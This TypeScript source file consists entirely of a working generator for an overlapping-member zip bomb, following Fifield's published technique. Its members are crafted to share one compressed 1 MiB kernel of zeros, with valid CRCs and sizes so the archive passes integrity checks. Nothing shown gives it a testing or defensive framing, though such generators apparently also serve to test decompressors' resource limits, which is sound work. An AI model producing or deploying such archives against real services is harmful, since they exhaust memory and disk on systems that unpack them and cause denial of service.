import { crc32, deflateRawSync } from 'node:zlib';

const KERNEL = 2 ** 20;

/**
 * A zip whose members overlap without sharing a header (David Fifield, "A better zip bomb",
 * https://www.usenix.org/conference/woot19/presentation/fifield): each begins with a stored block that quotes the local
 * header of the next, so that all of them run into the same 1 MiB of zeros. Every size and check sum is true.
 */
export function quotingZip(members: number): Buffer {
  const kernel = deflateRawSync(Buffer.alloc(KERNEL), { level: 9 });
  let content = Buffer.alloc(KERNEL);
  let packed = kernel;
  let whole = Buffer.alloc(0);
  const directory: Buffer[] = [];
  const distances: number[] = [];
  for (let at = members - 1; at >= 0; at--) {
    if (whole.length > 0) {
      // The quote is what the next one begins with: its local header.
      const quoted = whole.subarray(0, whole.length - packed.length);
      content = Buffer.concat([quoted, content]);
      packed = Buffer.concat([storedBlock(quoted.length), whole]);
    }
    const label = Buffer.from(`${at}`.padStart(4, '0'));
    const shared = Buffer.alloc(26);
    shared.writeUInt16LE(20, 0);
    shared.writeUInt16LE(8, 4);
    shared.writeUInt32LE(crc32(content), 10);
    shared.writeUInt32LE(packed.length, 14);
    shared.writeUInt32LE(content.length, 18);
    shared.writeUInt16LE(label.length, 22);
    whole = Buffer.concat([Buffer.from('PK\x03\x04'), shared, label, packed]);
    directory.unshift(Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), shared, Buffer.alloc(14), label]));
    distances.unshift(whole.length);
  }
  for (const [at, entry] of directory.entries()) entry.writeUInt32LE(whole.length - (distances[at] ?? 0), 42);
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06');
  end.writeUInt16LE(members, 8);
  end.writeUInt16LE(members, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(whole.length, 16);
  return Buffer.concat([whole, central, end]);
}

function storedBlock(length: number): Buffer {
  const header = Buffer.alloc(5);
  header.writeUInt16LE(length, 1);
  header.writeUInt16LE(length ^ 0xffff, 3);
  return header;
}
